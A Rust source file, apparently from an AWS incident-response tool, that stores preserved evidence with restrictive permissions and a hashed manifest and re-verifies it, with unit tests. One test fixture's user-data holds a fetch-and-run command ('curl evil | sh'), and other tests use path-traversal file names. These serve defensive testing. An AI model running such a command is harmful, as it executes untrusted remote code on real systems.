//! The evidence store: what a preservation step kept, written under the incident directory's
//! `evidence/`, one directory per resource (`<region>/<kind>-<id>/`), files 0600 in
//! directories 0700, never over an existing file, and one `manifest.jsonl` line per file and
//! per snapshot. [`verify`] hashes the files again against that manifest.

use std::collections::BTreeSet;
use std::fs::{DirBuilder, File, OpenOptions};
use std::io::{ErrorKind, Read, Write};
use std::path::{Component, Path, PathBuf};

use sha2::{Digest, Sha256};

use keyspill_core::domain::Timestamp;
use keyspill_core::journal;
use keyspill_core::resources::ResourceRef;
use keyspill_core::resources::evidence::{
    EVIDENCE_DIR, Kept, KeptSnapshot, MANIFEST_FILE, ManifestEntry, TargetFacts,
};

/// How many numbered names (`-2`, `-3`…) a file is tried under before the step gives up.
const MAX_SUFFIX: u32 = 1000;

/// A name safe as one path component: anything but `[A-Za-z0-9._-]` becomes `_`, and a name
/// of dots only (`.`, `..`) or nothing at all becomes `_`.
pub fn sanitise(s: &str) -> String {
    let out: String = s
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-') {
                c
            } else {
                '_'
            }
        })
        .collect();
    if out.chars().all(|c| c == '.') {
        "_".repeat(out.len().max(1))
    } else {
        out
    }
}

/// A resource's directory, relative to the evidence directory: `<region>/<kind>-<id>`, under
/// `account-<id>/` for another account's (names are only unique within an account).
pub fn resource_dir(target: &ResourceRef) -> PathBuf {
    let base = match &target.account {
        Some(a) => PathBuf::from(sanitise(&format!("account-{a}"))),
        None => PathBuf::new(),
    };
    base.join(sanitise(&target.region)).join(sanitise(&format!(
        "{}-{}",
        target.kind.label(),
        target.id
    )))
}

/// `name` with `-n` before its extension: `package.zip` → `package-2.zip`.
fn numbered(name: &str, n: u32) -> String {
    if n < 2 {
        return name.to_string();
    }
    match name.rfind('.') {
        Some(dot) if dot > 0 => format!("{}-{n}{}", &name[..dot], &name[dot..]),
        _ => format!("{name}-{n}"),
    }
}

/// SHA-256, lower-case hex.
pub fn sha256_hex(bytes: &[u8]) -> String {
    hex(&Sha256::digest(bytes))
}

fn hex(digest: &[u8]) -> String {
    const DIGITS: &[u8; 16] = b"0123456789abcdef";
    let mut s = String::with_capacity(digest.len() * 2);
    for b in digest {
        s.push(char::from(DIGITS[usize::from(b >> 4)]));
        s.push(char::from(DIGITS[usize::from(b & 0xf)]));
    }
    s
}

/// The manifest line for a snapshot a step started (a snapshot is kept in AWS, not on disk).
pub fn snapshot_entry(
    target: &ResourceRef,
    facts: Option<&TargetFacts>,
    snap: &KeptSnapshot,
    action_id: &str,
    at: Timestamp,
) -> ManifestEntry {
    ManifestEntry {
        file: None,
        sha256: None,
        bytes: None,
        snapshot_id: Some(snap.snapshot_id.clone()),
        volume_id: Some(snap.volume_id.clone()),
        what: format!(
            "EBS snapshot of {} ({}), {} when taken (ec2:CreateSnapshot)",
            snap.volume_id, snap.device, snap.state
        ),
        ..base_entry(target, facts, action_id, at)
    }
}

fn base_entry(
    target: &ResourceRef,
    facts: Option<&TargetFacts>,
    action_id: &str,
    at: Timestamp,
) -> ManifestEntry {
    ManifestEntry {
        time: journal::format_ts(at),
        action_id: action_id.to_string(),
        kind: target.kind.label().to_string(),
        region: target.region.clone(),
        id: target.id.clone(),
        account: target.account.clone(),
        source_arn: facts.and_then(|f| f.arn.clone()),
        made_by: facts.and_then(|f| f.made_by.clone()),
        what: String::new(),
        file: None,
        sha256: None,
        bytes: None,
        snapshot_id: None,
        volume_id: None,
    }
}

/// A save cut short: what was written (and is in the manifest) before it failed, and why.
#[derive(Debug)]
pub struct Partial {
    pub entries: Vec<ManifestEntry>,
    pub error: String,
}

/// The evidence directory of one incident.
#[derive(Debug, Clone)]
pub struct Store {
    dir: PathBuf,
}

impl Store {
    /// The store of the incident whose directory is `incident_dir`; nothing is created until
    /// something is saved.
    pub fn new(incident_dir: &Path) -> Store {
        Store {
            dir: incident_dir.join(EVIDENCE_DIR),
        }
    }

    pub fn dir(&self) -> &Path {
        &self.dir
    }

    /// Writes what a step kept of `target`: each snapshot's and each file's manifest line
    /// (snapshots first: they exist in AWS already, whatever happens to the files), each line
    /// appended and synced as soon as its file is on disk. Returns the lines written.
    pub fn save(
        &self,
        target: &ResourceRef,
        facts: Option<&TargetFacts>,
        kept: &Kept,
        action_id: &str,
        at: Timestamp,
    ) -> Result<Vec<ManifestEntry>, Partial> {
        let mut entries = Vec::new();
        let fail = |entries: Vec<ManifestEntry>, error: String| Partial { entries, error };
        if let Err(e) = make_dirs(&self.dir) {
            return Err(fail(entries, format!("{}: {e}", self.dir.display())));
        }
        for snap in &kept.snapshots {
            let entry = snapshot_entry(target, facts, snap, action_id, at);
            if let Err(e) = self.append(&entry) {
                return Err(fail(entries, e));
            }
            entries.push(entry);
        }
        if kept.files.is_empty() {
            return Ok(entries);
        }
        let rel_dir = resource_dir(target);
        let abs_dir = self.dir.join(&rel_dir);
        if let Err(e) = make_dirs(&abs_dir) {
            return Err(fail(entries, format!("{}: {e}", abs_dir.display())));
        }
        for f in &kept.files {
            let name = match write_new(&abs_dir, &sanitise(&f.name), &f.bytes) {
                Ok(n) => n,
                Err(e) => return Err(fail(entries, e)),
            };
            let entry = ManifestEntry {
                what: f.what.clone(),
                file: Some(manifest_path(&rel_dir.join(&name))),
                sha256: Some(sha256_hex(&f.bytes)),
                bytes: Some(f.bytes.len() as u64),
                ..base_entry(target, facts, action_id, at)
            };
            if let Err(e) = self.append(&entry) {
                return Err(fail(entries, e));
            }
            entries.push(entry);
        }
        Ok(entries)
    }

    /// Appends one line to the manifest and syncs it.
    fn append(&self, entry: &ManifestEntry) -> Result<(), String> {
        let path = self.dir.join(MANIFEST_FILE);
        let mut line = serde_json::to_vec(entry).map_err(|e| format!("manifest line: {e}"))?;
        line.push(b'\n');
        let mut opts = OpenOptions::new();
        opts.create(true).append(true);
        #[cfg(unix)]
        {
            use std::os::unix::fs::OpenOptionsExt;
            opts.mode(0o600);
        }
        opts.open(&path)
            .and_then(|mut f| f.write_all(&line).and_then(|()| f.sync_data()))
            .map_err(|e| format!("{}: {e}", path.display()))
    }
}

/// A relative path as the manifest writes it: `/`-separated whatever the platform.
fn manifest_path(p: &Path) -> String {
    p.components()
        .map(|c| c.as_os_str().to_string_lossy().into_owned())
        .collect::<Vec<_>>()
        .join("/")
}

fn make_dirs(dir: &Path) -> std::io::Result<()> {
    let mut b = DirBuilder::new();
    b.recursive(true);
    #[cfg(unix)]
    {
        use std::os::unix::fs::DirBuilderExt;
        b.mode(0o700);
    }
    b.create(dir)
}

/// Writes `bytes` to a new file in `dir` named `name`, or `name-2`, `name-3`… when taken;
/// never over an existing file. Returns the name used.
fn write_new(dir: &Path, name: &str, bytes: &[u8]) -> Result<String, String> {
    for n in 1..=MAX_SUFFIX {
        let candidate = numbered(name, n);
        let path = dir.join(&candidate);
        let mut opts = OpenOptions::new();
        opts.write(true).create_new(true);
        #[cfg(unix)]
        {
            use std::os::unix::fs::OpenOptionsExt;
            opts.mode(0o600);
        }
        match opts.open(&path) {
            Ok(mut f) => {
                return f
                    .write_all(bytes)
                    .and_then(|()| f.sync_all())
                    .map(|()| candidate)
                    .map_err(|e| format!("{}: {e}", path.display()));
            }
            Err(e) if e.kind() == ErrorKind::AlreadyExists => {}
            Err(e) => return Err(format!("{}: {e}", path.display())),
        }
    }
    Err(format!(
        "{}: {MAX_SUFFIX} files of that name already",
        dir.join(name).display()
    ))
}

/// One manifest file that does not match.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Changed {
    pub file: String,
    pub why: String,
}

/// What [`verify`] found.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Verification {
    /// The evidence directory checked.
    pub dir: PathBuf,
    /// Files whose size and hash match the manifest.
    pub ok: Vec<String>,
    /// Files whose size or hash differs, or that cannot be read as a file.
    pub changed: Vec<Changed>,
    /// Files the manifest lists that are not there.
    pub missing: Vec<String>,
    /// Files in the evidence directory the manifest does not list.
    pub unlisted: Vec<String>,
    /// Manifest lines that are not a manifest entry (or name a path outside the directory):
    /// line number and why. Skipped.
    pub malformed: Vec<(usize, String)>,
    /// Snapshots listed (kept in AWS; not checked here).
    pub snapshots: Vec<String>,
}

impl Verification {
    /// Whether everything matches.
    pub fn clean(&self) -> bool {
        self.changed.is_empty()
            && self.missing.is_empty()
            && self.unlisted.is_empty()
            && self.malformed.is_empty()
    }

    /// One line: how many of each.
    pub fn summary(&self) -> String {
        let n =
            |k: usize, one: &str, many: &str| format!("{k} {}", if k == 1 { one } else { many });
        format!(
            "{}: {} match, {} changed, {} missing, {} not in the manifest, {}; {} listed",
            self.dir.display(),
            n(self.ok.len(), "file", "files"),
            self.changed.len(),
            self.missing.len(),
            self.unlisted.len(),
            n(
                self.malformed.len(),
                "unreadable manifest line",
                "unreadable manifest lines"
            ),
            n(self.snapshots.len(), "snapshot", "snapshots"),
        )
    }

    /// Each problem on its own line.
    pub fn problems(&self) -> Vec<String> {
        let mut out = Vec::new();
        out.extend(
            self.changed
                .iter()
                .map(|c| format!("changed: {} ({})", c.file, c.why)),
        );
        out.extend(self.missing.iter().map(|f| format!("missing: {f}")));
        out.extend(
            self.unlisted
                .iter()
                .map(|f| format!("not in the manifest: {f}")),
        );
        out.extend(
            self.malformed
                .iter()
                .map(|(n, why)| format!("manifest line {n} skipped: {why}")),
        );
        out
    }
}

/// The evidence directory `dir` names: itself when it holds the manifest, else its
/// `evidence/` (an incident directory).
pub fn evidence_dir(dir: &Path) -> Option<PathBuf> {
    if dir.join(MANIFEST_FILE).is_file() {
        Some(dir.to_path_buf())
    } else if dir.join(EVIDENCE_DIR).join(MANIFEST_FILE).is_file() {
        Some(dir.join(EVIDENCE_DIR))
    } else {
        None
    }
}

/// Hashes every file the manifest in `dir` (an evidence directory) lists again and compares
/// it, and lists the files there that the manifest does not. Only an unreadable manifest is
/// an error; everything else is in the answer.
pub fn verify(dir: &Path) -> Result<Verification, String> {
    let manifest = dir.join(MANIFEST_FILE);
    let raw = std::fs::read(&manifest).map_err(|e| format!("{}: {e}", manifest.display()))?;
    let mut v = Verification {
        dir: dir.to_path_buf(),
        ..Verification::default()
    };
    let mut listed: BTreeSet<String> = BTreeSet::new();
    let text = String::from_utf8_lossy(&raw);
    for (i, line) in text.lines().enumerate() {
        let n = i + 1;
        if line.trim().is_empty() {
            continue;
        }
        let entry: ManifestEntry = match serde_json::from_str(line) {
            Ok(e) => e,
            Err(e) => {
                v.malformed.push((n, e.to_string()));
                continue;
            }
        };
        if let Some(s) = &entry.snapshot_id {
            v.snapshots.push(s.clone());
        }
        let Some(file) = &entry.file else {
            continue;
        };
        let Some(rel) = inside(file) else {
            v.malformed
                .push((n, format!("{file} is not a path inside the directory")));
            continue;
        };
        let (Some(want_hash), Some(want_bytes)) = (&entry.sha256, entry.bytes) else {
            v.malformed
                .push((n, format!("{file} is listed without its hash or size")));
            continue;
        };
        listed.insert(manifest_path(&rel));
        match hash_file(&dir.join(&rel)) {
            Err(Unread::Missing) => v.missing.push(file.clone()),
            Err(Unread::Other(why)) => v.changed.push(Changed {
                file: file.clone(),
                why,
            }),
            Ok((bytes, hash)) => {
                let mut why = Vec::new();
                if bytes != want_bytes {
                    why.push(format!("{bytes} bytes, the manifest says {want_bytes}"));
                }
                if !hash.eq_ignore_ascii_case(want_hash) {
                    why.push(format!("SHA-256 {hash}, the manifest says {want_hash}"));
                }
                if why.is_empty() {
                    v.ok.push(file.clone());
                } else {
                    v.changed.push(Changed {
                        file: file.clone(),
                        why: why.join("; "),
                    });
                }
            }
        }
    }
    let mut present = Vec::new();
    walk(dir, Path::new(""), &mut present);
    v.unlisted = present
        .into_iter()
        .filter(|p| p != MANIFEST_FILE && !listed.contains(p))
        .collect();
    Ok(v)
}

/// A manifest's file as a relative path that stays inside the directory.
fn inside(file: &str) -> Option<PathBuf> {
    let p = Path::new(file);
    let ok = !file.is_empty() && p.components().all(|c| matches!(c, Component::Normal(_)));
    ok.then(|| p.to_path_buf())
}

enum Unread {
    Missing,
    Other(String),
}

/// A regular file's size and SHA-256, read in pieces (a package may be hundreds of MiB).
fn hash_file(path: &Path) -> Result<(u64, String), Unread> {
    let meta = match std::fs::symlink_metadata(path) {
        Ok(m) => m,
        Err(e) if e.kind() == ErrorKind::NotFound => return Err(Unread::Missing),
        Err(e) => return Err(Unread::Other(e.to_string())),
    };
    if !meta.is_file() {
        return Err(Unread::Other("not a regular file".into()));
    }
    let mut f = File::open(path).map_err(|e| Unread::Other(e.to_string()))?;
    let mut hasher = Sha256::new();
    let mut buf = vec![0u8; 64 * 1024];
    let mut total = 0u64;
    loop {
        match f.read(&mut buf) {
            Ok(0) => break,
            Ok(k) => {
                hasher.update(&buf[..k]);
                total += k as u64;
            }
            Err(e) if e.kind() == ErrorKind::Interrupted => {}
            Err(e) => return Err(Unread::Other(e.to_string())),
        }
    }
    Ok((total, hex(&hasher.finalize())))
}

/// Every entry under `dir` that is not a directory, as `/`-separated paths relative to it
/// (links are listed, not followed).
fn walk(root: &Path, rel: &Path, out: &mut Vec<String>) {
    let Ok(rd) = std::fs::read_dir(root.join(rel)) else {
        return;
    };
    let mut names: Vec<_> = rd.filter_map(Result::ok).collect();
    names.sort_by_key(std::fs::DirEntry::file_name);
    for d in names {
        let child = rel.join(d.file_name());
        match d.file_type() {
            Ok(t) if t.is_dir() => walk(root, &child, out),
            _ => out.push(manifest_path(&child)),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use keyspill_core::resources::Kind;
    use keyspill_core::resources::evidence::KeptFile;

    fn at() -> Timestamp {
        time::macros::datetime!(2026-12-05 02:30:00 UTC)
    }

    fn instance() -> ResourceRef {
        ResourceRef {
            kind: Kind::Instance,
            region: "eu-west-1".into(),
            id: "i-0abc".into(),
            account: None,
        }
    }

    fn file(name: &str, bytes: &[u8]) -> KeptFile {
        KeptFile {
            name: name.into(),
            what: format!("{name} (test)"),
            bytes: bytes.to_vec(),
        }
    }

    fn kept() -> Kept {
        Kept {
            files: vec![
                file("description.json", b"{\"InstanceId\":\"i-0abc\"}"),
                file("user-data.bin", b"#!/bin/sh\ncurl evil | sh\n"),
            ],
            snapshots: vec![KeptSnapshot {
                snapshot_id: "snap-1".into(),
                volume_id: "vol-1".into(),
                device: "/dev/xvda".into(),
                state: "pending".into(),
            }],
            notes: vec![],
        }
    }

    fn facts() -> TargetFacts {
        TargetFacts {
            arn: Some("arn:aws:ec2:eu-west-1:123456789012:instance/i-0abc".into()),
            made_by: Some("AKIA…1234 (RunInstances, 09:14)".into()),
        }
    }

    fn manifest_lines(store: &Store) -> Vec<ManifestEntry> {
        std::fs::read_to_string(store.dir().join(MANIFEST_FILE))
            .expect("manifest")
            .lines()
            .map(|l| serde_json::from_str(l).expect("a manifest entry"))
            .collect()
    }

    #[test]
    fn sanitising_keeps_safe_characters_and_replaces_the_rest() {
        assert_eq!(sanitise("i-0abc_1.2"), "i-0abc_1.2");
        assert_eq!(
            sanitise("arn:aws:iam::1:policy/x y"),
            "arn_aws_iam__1_policy_x_y"
        );
        assert_eq!(sanitise("../etc"), ".._etc");
        assert_eq!(sanitise(".."), "__");
        assert_eq!(sanitise(""), "_");
        assert_eq!(sanitise("é"), "_");
        let r = ResourceRef {
            kind: Kind::Policy,
            region: "global".into(),
            id: "arn:aws:iam::123456789012:policy/evil".into(),
            account: None,
        };
        assert_eq!(
            manifest_path(&resource_dir(&r)),
            "global/iam-policy-arn_aws_iam__123456789012_policy_evil"
        );
    }

    #[test]
    fn numbered_names_go_before_the_extension() {
        assert_eq!(numbered("package.zip", 1), "package.zip");
        assert_eq!(numbered("package.zip", 2), "package-2.zip");
        assert_eq!(numbered("console", 3), "console-3");
        assert_eq!(numbered(".hidden", 2), ".hidden-2");
    }

    #[test]
    fn sha256_is_lower_case_hex() {
        assert_eq!(
            sha256_hex(b"abc"),
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
        );
    }

    #[test]
    fn save_writes_files_and_a_manifest_line_for_each_file_and_snapshot() {
        let tmp = tempfile::tempdir().expect("tempdir");
        let store = Store::new(tmp.path());
        let k = kept();
        let entries = store
            .save(&instance(), Some(&facts()), &k, "act-1", at())
            .expect("saved");
        assert_eq!(entries.len(), 3);
        assert_eq!(manifest_lines(&store), entries);

        let snap = &entries[0];
        assert_eq!(snap.snapshot_id.as_deref(), Some("snap-1"));
        assert_eq!(snap.volume_id.as_deref(), Some("vol-1"));
        assert_eq!(snap.file, None);
        assert!(snap.what.contains("/dev/xvda"), "{}", snap.what);

        for (e, f) in entries[1..].iter().zip(&k.files) {
            let rel = e.file.as_deref().expect("a file");
            assert_eq!(rel, format!("eu-west-1/instance-i-0abc/{}", f.name));
            let on_disk = std::fs::read(store.dir().join(rel)).expect("written");
            assert_eq!(on_disk, f.bytes);
            assert_eq!(e.sha256.as_deref(), Some(sha256_hex(&f.bytes).as_str()));
            assert_eq!(e.bytes, Some(f.bytes.len() as u64));
            assert_eq!(e.what, f.what);
        }
        for e in &entries {
            assert_eq!(e.time, "2026-12-05T02:30:00Z");
            assert_eq!(e.action_id, "act-1");
            assert_eq!(
                (e.kind.as_str(), e.region.as_str()),
                ("instance", "eu-west-1")
            );
            assert_eq!(e.id, "i-0abc");
            assert_eq!(e.source_arn, facts().arn);
            assert_eq!(e.made_by, facts().made_by);
        }
    }

    #[cfg(unix)]
    #[test]
    fn files_are_0600_and_directories_0700() {
        use std::os::unix::fs::PermissionsExt;
        let tmp = tempfile::tempdir().expect("tempdir");
        let store = Store::new(tmp.path());
        let entries = store
            .save(&instance(), None, &kept(), "a", at())
            .expect("saved");
        let mode = |p: &Path| std::fs::metadata(p).expect("exists").permissions().mode() & 0o777;
        assert_eq!(mode(store.dir()), 0o700);
        assert_eq!(mode(&store.dir().join("eu-west-1")), 0o700);
        assert_eq!(mode(&store.dir().join("eu-west-1/instance-i-0abc")), 0o700);
        assert_eq!(mode(&store.dir().join(MANIFEST_FILE)), 0o600);
        for e in entries.iter().filter_map(|e| e.file.as_ref()) {
            assert_eq!(mode(&store.dir().join(e)), 0o600, "{e}");
        }
    }

    #[test]
    fn a_second_keep_never_overwrites_it_numbers_the_files() {
        let tmp = tempfile::tempdir().expect("tempdir");
        let store = Store::new(tmp.path());
        let first = Kept {
            files: vec![file("package.zip", b"one")],
            ..Kept::default()
        };
        let second = Kept {
            files: vec![file("package.zip", b"two")],
            ..Kept::default()
        };
        let third = Kept {
            files: vec![file("package.zip", b"three")],
            ..Kept::default()
        };
        let f = ResourceRef {
            kind: Kind::Function,
            region: "us-east-1".into(),
            id: "miner".into(),
            account: None,
        };
        let mut names = Vec::new();
        for k in [&first, &second, &third] {
            let e = store.save(&f, None, k, "a", at()).expect("saved");
            names.push(e[0].file.clone().expect("a file"));
        }
        assert_eq!(
            names,
            [
                "us-east-1/lambda-miner/package.zip",
                "us-east-1/lambda-miner/package-2.zip",
                "us-east-1/lambda-miner/package-3.zip"
            ]
        );
        for (n, want) in names.iter().zip([&b"one"[..], b"two", b"three"]) {
            assert_eq!(std::fs::read(store.dir().join(n)).expect("read"), want);
        }
        assert_eq!(manifest_lines(&store).len(), 3);
    }

    #[test]
    fn a_file_name_cannot_leave_its_directory() {
        let tmp = tempfile::tempdir().expect("tempdir");
        let store = Store::new(tmp.path());
        let k = Kept {
            files: vec![file("../../escape", b"x"), file("..", b"y")],
            ..Kept::default()
        };
        let e = store.save(&instance(), None, &k, "a", at()).expect("saved");
        assert_eq!(
            e[0].file.as_deref(),
            Some("eu-west-1/instance-i-0abc/.._.._escape")
        );
        assert_eq!(e[1].file.as_deref(), Some("eu-west-1/instance-i-0abc/__"));
        assert!(!tmp.path().join("escape").exists());
        let v = verify(store.dir()).expect("verifies");
        assert!(v.clean(), "{:?}", v.problems());
    }

    #[test]
    fn a_failed_write_keeps_what_was_written_before_it() {
        let tmp = tempfile::tempdir().expect("tempdir");
        let store = Store::new(tmp.path());
        // A directory where the second file would go: creating that file fails (not as
        // "already exists" on every platform, so block every numbered name too).
        let dir = store.dir().join("eu-west-1/instance-i-0abc");
        std::fs::create_dir_all(&dir).expect("dirs");
        std::fs::write(dir.join("user-data.bin"), b"x").expect("first");
        for n in 2..=MAX_SUFFIX {
            std::fs::write(dir.join(numbered("user-data.bin", n)), b"x").expect("taken");
        }
        let err = store
            .save(&instance(), None, &kept(), "a", at())
            .expect_err("no name left");
        assert!(err.error.contains("already"), "{}", err.error);
        // The snapshot and the description were written and are in the manifest.
        assert_eq!(err.entries.len(), 2);
        assert_eq!(manifest_lines(&store), err.entries);
    }

    #[test]
    fn verify_finds_every_file_matching() {
        let tmp = tempfile::tempdir().expect("tempdir");
        let store = Store::new(tmp.path());
        store
            .save(&instance(), Some(&facts()), &kept(), "a", at())
            .expect("saved");
        let v = verify(store.dir()).expect("verifies");
        assert!(v.clean(), "{:?}", v.problems());
        assert_eq!(v.ok.len(), 2);
        assert_eq!(v.snapshots, ["snap-1"]);
        assert!(v.summary().contains("2 files match, 0 changed, 0 missing"));
        assert!(v.summary().contains("1 snapshot listed"));
        assert_eq!(evidence_dir(tmp.path()).as_deref(), Some(store.dir()));
        assert_eq!(evidence_dir(store.dir()).as_deref(), Some(store.dir()));
    }

    #[test]
    fn verify_reports_changed_missing_unlisted_and_malformed() {
        let tmp = tempfile::tempdir().expect("tempdir");
        let store = Store::new(tmp.path());
        let entries = store
            .save(&instance(), None, &kept(), "a", at())
            .expect("saved");
        let desc = entries[1].file.clone().expect("file");
        let user_data = entries[2].file.clone().expect("file");
        // Same size, other bytes.
        let original = std::fs::read(store.dir().join(&desc)).expect("read");
        let mut tampered = original.clone();
        tampered[0] ^= 1;
        std::fs::write(store.dir().join(&desc), &tampered).expect("tamper");
        std::fs::remove_file(store.dir().join(&user_data)).expect("remove");
        std::fs::write(store.dir().join("eu-west-1/planted.txt"), b"p").expect("plant");
        let mut m = OpenOptions::new()
            .append(true)
            .open(store.dir().join(MANIFEST_FILE))
            .expect("manifest");
        m.write_all(b"{not json\n").expect("append");
        let outside = ManifestEntry {
            file: Some("../journal.jsonl".into()),
            sha256: Some("00".into()),
            bytes: Some(1),
            ..entries[1].clone()
        };
        m.write_all(&serde_json::to_vec(&outside).expect("json"))
            .expect("append");
        m.write_all(b"\n").expect("append");

        let v = verify(store.dir()).expect("verifies");
        assert!(!v.clean());
        assert!(v.ok.is_empty(), "{:?}", v.ok);
        assert_eq!(v.changed.len(), 1);
        assert_eq!(v.changed[0].file, desc);
        assert!(v.changed[0].why.contains("SHA-256"), "{}", v.changed[0].why);
        assert!(!v.changed[0].why.contains("bytes"), "{}", v.changed[0].why);
        assert_eq!(v.missing, [user_data]);
        assert_eq!(v.unlisted, ["eu-west-1/planted.txt"]);
        assert_eq!(
            v.malformed.iter().map(|(n, _)| *n).collect::<Vec<_>>(),
            [4, 5]
        );
        assert!(v.malformed[1].1.contains("not a path inside"));
        assert_eq!(v.problems().len(), 5);

        // A size change is named as one.
        std::fs::write(store.dir().join(&desc), b"short").expect("shorten");
        let v = verify(store.dir()).expect("verifies");
        assert!(v.changed[0].why.contains("5 bytes"), "{}", v.changed[0].why);
    }

    #[test]
    fn verify_without_a_manifest_is_an_error() {
        let tmp = tempfile::tempdir().expect("tempdir");
        assert!(verify(tmp.path()).is_err());
        assert_eq!(evidence_dir(tmp.path()), None);
    }
}
